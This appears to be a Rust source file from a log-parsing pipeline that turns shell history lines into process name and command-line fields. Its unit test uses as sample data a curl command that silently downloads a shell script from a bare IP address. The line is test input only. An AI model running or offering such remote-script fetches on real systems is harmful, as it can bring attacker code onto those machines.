//! Plain text and shell history. Definitions in `text.toml`.

use schema::f;

use super::util::{get, set_command};
use crate::steps::NamedStep;

pub static SHELL_HISTORY: NamedStep = NamedStep {
    name: "shell_history",
    doc: "Shell history line: process.command_line and process.name",
    paths: &[],
    find: None,
    run: |ctx| {
        if let Some(cmd) = get(&ctx.event, f::MESSAGE) {
            set_command(&mut ctx.event, &cmd);
        }
        Ok(())
    },
};

#[cfg(test)]
mod tests {
    use super::super::testing::{parse, text};

    #[test]
    fn history_and_text() {
        let e = parse("shell.history", "/usr/bin/curl -s http://203.0.113.7/x.sh").unwrap();
        assert_eq!(text(&e, "process.name"), "curl");
        assert_eq!(
            text(&e, "process.command_line"),
            "/usr/bin/curl -s http://203.0.113.7/x.sh"
        );
        let e = parse("text", "anything at all").unwrap();
        assert_eq!(text(&e, "message"), "anything at all");
        assert_eq!(text(&e, "event.dataset"), "generic");
    }
}
